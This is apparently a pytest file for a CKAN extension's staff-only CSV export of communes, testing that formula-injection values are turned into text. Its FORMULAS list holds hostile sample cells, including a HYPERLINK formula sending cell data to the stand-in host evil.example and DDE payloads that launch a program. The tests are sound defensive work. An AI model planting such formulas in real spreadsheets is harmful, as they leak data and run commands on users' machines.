"""The console's CSV export carries no formula into a spreadsheet (issue #11, point 5).

OWASP's "CSV Injection" advice: a cell that starts with =, +, -, @, a tab or a
carriage return is run by Excel and LibreOffice Calc as a formula; a leading
quote makes it text, and every field is quoted.
"""

import csv
import io

import pytest
from ckan.tests import factories

from ckanext.mel.views import spreadsheet_safe
from tests.helpers import PASSWORD, login

pytestmark = pytest.mark.usefixtures("clean_db", "clean_index")

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_formula_becomes_text(value):
    assert spreadsheet_safe(value) == "'" + value


def test_ordinary_values_are_unchanged():
    for value in ("Lille", "59350", "Villeneuve-d'Ascq", "", None, 12000, -3, 2.5, True):
        assert spreadsheet_safe(value) == value


def test_the_export_neutralises_a_commune_title(app, commune_factory, mel_staff):
    commune_factory(title=FORMULAS[0], insee_code="59001")
    commune_factory(title="@SUM(A1:A9)", insee_code="59002")
    commune_factory(title="Lille", insee_code="59350")
    body = login(app, mel_staff).get("/ckan-admin/communes.csv").body.lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(body)))
    titles = sorted(row["title"] for row in rows)
    assert titles == sorted(["'" + FORMULAS[0], "'@SUM(A1:A9)", "Lille"])
    # What a spreadsheet reads first in each cell: never a formula trigger.
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


def test_the_export_is_for_mel_staff(app):
    response = login(app, factories.User(password=PASSWORD)).get("/ckan-admin/communes.csv")
    assert response.status_code == 403
